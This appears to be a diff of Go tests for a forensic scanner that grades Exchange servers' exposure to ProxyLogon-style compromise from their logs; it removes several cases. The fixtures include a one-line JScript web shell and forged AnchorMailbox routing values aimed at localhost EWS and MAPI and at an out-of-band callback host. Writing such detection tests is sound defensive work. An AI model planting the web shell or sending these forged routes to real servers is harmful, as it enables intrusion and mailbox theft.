@@ -51,18 +51,6 @@ func TestFoundRefusedBeforeRouting(t *testing.T) {
 	}
 }
 
-// F3. Nothing but the installer's log: no covered log, nothing to say.
-func TestFoundSetupLogAlone(t *testing.T) {
-	s := newStory(t, 92)
-	h := s.server("MAIL01", "15.1.2176.2")
-	h.Installed(on(2021, 3, 3, 6, 0, 0))
-	v := scan(t, s.pack())
-	wantStage(t, v.only(), athar.Unknown)
-	if v.exit() != exitUnknown {
-		t.Errorf("exit %d", v.exit())
-	}
-}
-
 // F4. Order-taking script on disk, in every place of 3.1.
 func TestFoundShellPlaces(t *testing.T) {
 	chopper := `<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>`
@@ -88,16 +76,6 @@ func TestFoundShellUnderBackEndName(t *testing.T) {
 	h := open(s)
 	h.Command(on(2021, 3, 3, 3, 0, 0), intruder, forge.Shell{URL: "/owa/auth/error2.aspx"}, 2100)
 	wantStage(t, scan(t, s.pack()).only(), athar.Controlled)
-}
-
-// F5. The forged route names localhost, and EWS and MAPI answer.
-func TestFoundLocalhostTheft(t *testing.T) {
-	for anchor, stage := range map[string]athar.Stage{
-		"ServerInfo~a]@localhost:444/EWS/Exchange.asmx?#": athar.Exfiltrated, "ServerInfo~localhost/EWS/Exchange.asmx?a=": athar.Exfiltrated,
-		"ServerInfo~a]@127.0.0.1:444/mapi/emsmdb/?#": athar.Accessed,
-	} {
-		wantStage(t, oneProxyRow(t, proxied{"AnchorMailbox": anchor, "RoutingHint": "X-BEResource-Cookie", "ResponseBytes": "900000"}), stage)
-	}
 }
 
 // F6. The only log given lacks the day of the attack.
@@ -128,33 +106,6 @@ func TestFoundInnerSiteWithoutPort(t *testing.T) {
 	if a := v.only().Answers.Attacked.Answer; a != athar.Unsure {
 		t.Errorf("attacked = %s from the inner site's log alone\n%s", a, told(v.only()))
 	}
-}
-
-// F8. Setup run again in mode Install (a role, a language pack) is not the
-// beginning of the server's life.
-func TestFoundSecondInstall(t *testing.T) {
-	s := newStory(t, 97)
-	h := s.server("MAIL01", "15.1.2507.6")
-	h.WebRoot(on(2022, 6, 1, 10, 0, 0))
-	quiet(h, on(2022, 6, 1, 10, 30, 0), on(2022, 6, 4, 0, 0, 0))
-	dir := s.folder()
-	put(t, dir, "MAIL01/C/ExchangeSetupLogs/ExchangeSetup.log", []byte(setupRun("01/12/2021 10:00", "15.1.2176.2", "Install")+setupRun("06/01/2022 08:00", "15.1.2507.6", "Upgrade")+setupRun("06/01/2022 10:00", "15.1.2507.6", "Install")))
-	v := scan(t, dir)
-	wantStage(t, v.only(), athar.Exposed)
-	if v.exit() != exitUnknown {
-		t.Errorf("exit %d", v.exit())
-	}
-}
-
-func setupRun(at, version, mode string) string {
-	var b strings.Builder
-	for _, l := range []string{
-		strings.Repeat("*", 46), "Starting Microsoft Exchange Server Setup", strings.Repeat("*", 46), "Local time zone: (UTC) UTC.", "Setup version: " + version + ".",
-		"Command Line Parameter Name='mode', Value='" + mode + "'.", "The Exchange Server setup operation completed successfully.", "End of Setup",
-	} {
-		b.WriteString("[" + at + ":00.0000] [0] " + l + "\r\n")
-	}
-	return b.String()
 }
 
 // F9. A flood of harmless sightings before the one that matters, in one file.
@@ -193,31 +144,6 @@ func TestFoundFailedSetThenReset(t *testing.T) {
 		row("10:00", `Remove-OwaVirtualDirectory.Force=$true.Identity=''MAIL01\owa (Default Web Site)''`, "")+
 		row("10:02", `New-OwaVirtualDirectory.Role=''ClientAccess''`, "")))
 	wantStage(t, scan(t, dir).only(), athar.Attempted)
-}
-
-// F12. What a call-back service answers is no mail of this server.
-func TestFoundCallbackIsNoTheft(t *testing.T) {
-	s := oneProxyRow(t, proxied{"AnchorMailbox": "ServerInfo~a]@x.oast.fun:444/ews/exchange.asmx?#", "RoutingHint": "X-BEResource-Cookie", "TargetServer": "a]@x.oast.fun", "ResponseBytes": "90000"})
-	wantStage(t, s, athar.Probed)
-}
-
-// F13. Two megabytes of mail in portions below the measure, half an hour apart.
-func TestFoundSlowTheft(t *testing.T) {
-	var rows []proxied
-	for i := range 45 {
-		rows = append(rows, proxied{"DateTime": (on(2021, 3, 3, 0, 0, 0) + athar.Time(i)*31*athar.Minute).Std().Format("2006-01-02T15:04:05.000Z"), "AnchorMailbox": "ServerInfo~a]@mail01:444/EWS/Exchange.asmx?#", "RoutingHint": "X-BEResource-Cookie", "ResponseBytes": "48000"})
-	}
-	dir := t.TempDir()
-	put(t, dir, "case/HttpProxy/Ecp/HttpProxy_2021030405-1.LOG", proxyLog(rows...))
-	s := scan(t, dir).only()
-	wantStage(t, s, athar.Exfiltrated)
-}
-
-// F13b. Twelve requests, ten of them GetItem in the EWS log under the same ids.
-func TestFoundGetItemIsReading(t *testing.T) {
-	s := newStory(t, 99)
-	open(s).MailTheft(forge.ProxyLogon{At: on(2021, 3, 3, 5, 0, 0), From: intruder}, 12)
-	wantStage(t, scan(t, s.pack()).only(), athar.Exfiltrated)
 }
 
 // F14. One row dated 2099 moves the end of the evidence.
@@ -279,17 +205,6 @@ func TestFoundOtherServices(t *testing.T) {
 			want = athar.Exfiltrated
 		}
 		wantStage(t, oneProxyRow(t, proxied{"AnchorMailbox": "ServerInfo~a]@mail01:444" + path + "?#", "RoutingHint": "X-BEResource-Cookie", "ResponseBytes": "90000"}), want)
-	}
-}
-
-// F19. Mail read from one mailbox without any implant: that mailbox, evidenced,
-// and not every mailbox because a whole server was had.
-func TestFoundEvidencedMailbox(t *testing.T) {
-	s := newStory(t, 54)
-	open(s).MailTheft(forge.ProxyLogon{At: on(2021, 3, 3, 5, 0, 0), From: intruder, Victim: "amal@example.test"}, 400)
-	srv := scan(t, s.pack()).only()
-	if len(srv.Mailboxes) != 1 || srv.Mailboxes[0].Mailbox != "amal@example.test" || srv.Mailboxes[0].Certainty != "evidenced" {
-		t.Errorf("mailboxes = %+v", srv.Mailboxes)
 	}
 }
 
